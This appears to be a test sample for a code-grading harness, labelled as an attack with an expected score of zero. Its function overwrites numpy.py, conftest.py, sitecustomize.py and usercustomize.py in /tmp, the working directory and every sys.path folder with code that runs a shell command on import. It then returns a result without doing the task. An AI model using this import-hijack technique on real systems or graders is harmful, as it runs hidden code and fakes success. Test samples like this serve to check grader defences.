# task: xor_certificate
# verdict: zero
# attack: writes numpy.py, conftest.py, sitecustomize.py where it can
import os
import sys

EVIL = "import os\nos.system('touch /tmp/pwned')\n"


def xor_certificate():
    for folder in ["/tmp", os.getcwd(), *sys.path]:
        for name in ("numpy.py", "conftest.py", "sitecustomize.py", "usercustomize.py"):
            try:
                with open(os.path.join(folder, name), "w") as handle:
                    handle.write(EVIL)
            except OSError:
                pass
    sys.path.insert(0, "/tmp")
    return np.zeros(4)
